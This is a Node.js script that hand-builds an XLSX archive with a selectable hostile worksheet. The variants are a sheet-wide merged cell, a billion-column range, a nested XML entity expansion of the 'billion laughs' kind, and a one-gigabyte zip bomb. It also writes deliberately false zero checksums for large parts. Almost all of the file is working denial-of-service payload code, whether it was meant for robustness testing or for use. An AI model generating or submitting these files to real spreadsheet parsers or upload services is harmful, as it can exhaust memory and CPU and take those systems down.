const fs = require('node:fs')
const zlib = require('node:zlib')

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const CELL = '<row r="1"><c r="A1"><v>42</v></c></row>'

const sheet = (before, rows, after) =>
  `<worksheet xmlns="${MAIN}">${before}<sheetData>${rows}</sheetData>${after}</worksheet>`
const nested = Array.from({ length: 12 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')

const SHEETS = {
  honest: () => [XML + sheet('', CELL, '')],
  merged: () => [XML + sheet('', CELL, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')],
  columns: () => [XML + sheet('<cols><col min="1" max="1000000000" width="9" customWidth="1"/></cols>', CELL, '')],
  entities: () => [
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "42">${nested}]>`,
    sheet('', '<row r="1"><c r="A1" t="str"><v>&e12;</v></c></row>', ''),
  ],
  packed: function* () {
    const [head, tail] = (XML + sheet('', '|', '')).split('|')
    const rows = CELL.repeat(25_000)
    yield head
    // Exactly one gigabyte.
    for (let count = 0; count < 1024; count += 1) yield rows
    yield tail
  },
}

async function main() {
  const files = {
    '[Content_Types].xml': [
      `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    ],
    '_rels/.rels': [
      `${XML}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ],
    'xl/workbook.xml': [
      `${XML}<workbook xmlns="${MAIN}" xmlns:r="${RELATIONS}"><sheets><sheet name="One" sheetId="1" r:id="r1"/></sheets></workbook>`,
    ],
    'xl/_rels/workbook.xml.rels': [
      `${XML}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ],
    'xl/worksheets/sheet1.xml': (SHEETS[process.argv[2]] ?? SHEETS.honest)(),
  }
  const entries = []
  for (const [name, parts] of Object.entries(files)) entries.push(await pack(name, parts))
  fs.writeFileSync('answer.xlsx', archive(entries))
}

async function pack(name, parts) {
  const packer = zlib.createDeflateRaw({ level: 6 })
  const chunks = []
  packer.on('data', (chunk) => chunks.push(chunk))
  const ended = new Promise((resolve) => packer.on('end', resolve))
  let size = 0
  let checksum = 0
  for (const part of parts) {
    const bytes = Buffer.from(part)
    size += bytes.length
    checksum = crc32(bytes, checksum)
    if (!packer.write(bytes)) await new Promise((resolve) => packer.once('drain', resolve))
  }
  packer.end()
  await ended
  return { name: Buffer.from(name), data: Buffer.concat(chunks), size, checksum }
}

/** Local headers and data, central directory, end: APPNOTE 4.3. */
function archive(entries) {
  const parts = []
  const directory = []
  let offset = 0
  for (const { name, data, size, checksum } of entries) {
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(checksum, 10)
    common.writeUInt32LE(data.length, 14)
    common.writeUInt32LE(size, 18)
    common.writeUInt16LE(name.length, 22)
    const central = Buffer.alloc(14)
    central.writeUInt32LE(offset, 10)
    parts.push(Buffer.from('PK\u0003\u0004'), common, name, data)
    directory.push(Buffer.from('PK\u0001\u0002\u0014\u0000'), common, central, name)
    offset += 4 + common.length + name.length + data.length
  }
  const central = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(central.length, 8)
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...parts, central, Buffer.from('PK\u0005\u0006'), end])
}

const TABLE = Array.from({ length: 256 }, (_, byte) => {
  let value = byte
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1
  return value >>> 0
})

/** The checksum of large parts is not computed: it would take too long, and readers do not check it. */
function crc32(bytes, before) {
  if (bytes.length > 100_000) return 0
  let value = ~before >>> 0
  for (const byte of bytes) value = (value >>> 8) ^ TABLE[(value ^ byte) & 255]
  return ~value >>> 0
}

main()
